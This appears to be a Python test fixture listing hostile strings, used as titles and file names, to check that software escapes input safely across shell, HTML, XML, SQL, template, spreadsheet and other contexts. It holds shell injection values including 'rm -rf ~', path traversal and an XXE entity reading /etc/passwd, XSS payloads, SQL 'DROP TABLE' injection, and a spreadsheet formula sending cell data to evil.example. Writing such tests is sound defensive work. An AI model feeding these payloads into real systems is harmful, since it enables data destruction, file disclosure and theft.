"""Texts that attack what they are written into: each is a title that somebody might type, or paste without a look."""

# By what it attacks. Each is one line without white space at its ends, as a title is.
TEXTS = {
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf ~ | cat & \"a\" 'b' \\ !! *",
    "path": "../../etc/passwd\\..\\..\\C:\\x %2e%2e%2f",
    "yaml": "- a: {b: [c, &d *d, !!python/object:x]} # e | > % @ ? : ---",
    "markdown": "# *a* _b_ **c** [d](javascript:e) ![f](g) <h@i.j> `k` ~~l~~ [^1] 1. + - {: .m} \\* |n| ==o==",
    "html": "</title></h1></script></style><script>alert(1)</script><img src=x onerror=alert(1)> &amp; &lt;b&gt; &#60;",
    "attribute": "\" onmouseover=alert(1) x=\" ' onfocus='alert(1)' autofocus '",
    "xml": '<![CDATA[a]]> ]]> <!-- b --> <?c?> &d; <!DOCTYPE e [<!ENTITY f SYSTEM "file:///etc/passwd">]> &f;',
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")+cmd|\'/C calc\'!A0',
    "plus": "+1+1",
    "minus": "-2+3|cmd",
    "at": "@SUM(1,1)*cmd|' /C calc'!A0",
    "full-width": "＝1＋1",
    "apostrophe": "'=1+1",
    "jinja": "{{ config }} {% raw %} {# a #} {{ ''.__class__ }} ${7*7} <%= 7 %> #{7}",
    "json": '</script>\\u003c\\"}],"a":[{ \\n // /* */',
    "sql": "'); DROP TABLE items; -- \" OR 1=1 /*",
    "typst": "#let x = 1; $x^2$ @a <b> *c* _d_ `e` #[f] \\g // h",
    "feed": "&lt;b&gt; &amp;amp; <b>c</b> ]]&gt; http://a.example/?b=c&d=e#f",
    "unicode": "𬭎〇 e\u0301 \U0001f469\U0001f3fd Ａ① ﷽ עברית ﬁ ß İ",
    "quotes": "“”‘’「」《》〔〕【】—— …… \"\"\" ''' ```",
}
# Names of files that a folder can hold and a record may name.
FILES = (
    "$(touch pwned) `id` & 'a' ; b.txt",
    "#a?b=c&d %20 %2e%2e &amp;.txt",
    "-rf --help.txt",
    "=1+1.txt",
    "<img src=x onerror=alert(1)>.txt",
    "\"a\" onclick=\"b\".txt",
    "{{ config }} {% raw %}.txt",
    "[a](b) *c* _d_ `e`.txt",
    "𬭎〇 é ①.txt",
    "a..b ...txt",
)  # fmt: skip
